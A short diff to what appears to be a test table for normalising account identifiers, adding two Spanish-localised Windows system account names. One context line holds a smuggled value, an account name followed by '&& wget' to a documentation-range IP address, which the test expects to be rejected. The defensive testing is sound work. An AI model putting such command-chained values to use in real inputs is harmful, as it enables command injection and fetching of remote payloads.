@@ -149,6 +149,8 @@ KEYS: list[tuple[str, str | None, str | None]] = [
     ("account", "j.o'meyer", "account:j.o'meyer"),
     ("account", "CN=J.Meyer,OU=Staff,DC=corp,DC=example", "account:corp\\j.meyer"),
     ("account", "NT AUTHORITY\\NetworkService", None),
+    ("account", "AUTORIDAD NT\\SISTEMA", None),
+    ("account", "AUTORIDAD\\SISTEMA", "account:autoridad\\sistema"),
     ("account", "S-1-5-18", None),
     ("account", "S-1-5-21-1-2-3-1001", "account:s-1-5-21-1-2-3-1001"),
     ("account", "svc_backup && wget http://198.51.100.7/x?a=b&c=d", None),  # somebody typed a command
